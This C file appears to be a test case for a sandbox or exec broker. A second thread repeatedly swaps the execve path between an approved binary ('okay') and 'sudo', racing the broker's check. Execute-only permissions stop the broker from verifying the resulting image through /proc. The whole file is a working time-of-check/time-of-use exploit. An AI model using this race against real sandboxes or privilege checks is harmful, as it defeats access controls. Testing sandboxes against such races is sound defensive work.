// technique: the exec path race of 170 with execute-only copies (mode 0111): the new image is not dumpable, so an unprivileged broker cannot read its /proc/<pid>/exe
// timeout: 60
#include "exec_race.h"
#include <sys/prctl.h>
static char path[1200];
static volatile int stop, started;
static void *flip(void *a) {
	char *p = path + strlen(exec_dir) + 1;
	started = 1;
	while (!stop) { memcpy(p, "sudo", 4); exec_spin(300); memcpy(p, "okay", 4); exec_spin(300); }
	return a;
}
static void attempt(void) {
	snprintf(path, sizeof path, "%s/okay", exec_dir);
	pthread_t t;
	pthread_create(&t, 0, flip, 0);
	while (!started);
	char *argv[] = {"okay", 0};
	execve(path, argv, (char *[]){0});
}
int main(int argc, char **argv) {
	exec_role(argc, argv);
	exec_setup();
	char p[1200];
	snprintf(p, sizeof p, "%s/okay", exec_dir); chmod(p, 0111);
	snprintf(p, sizeof p, "%s/sudo", exec_dir); chmod(p, 0111);
	exec_race(attempt, 3000);
	return 0;
}
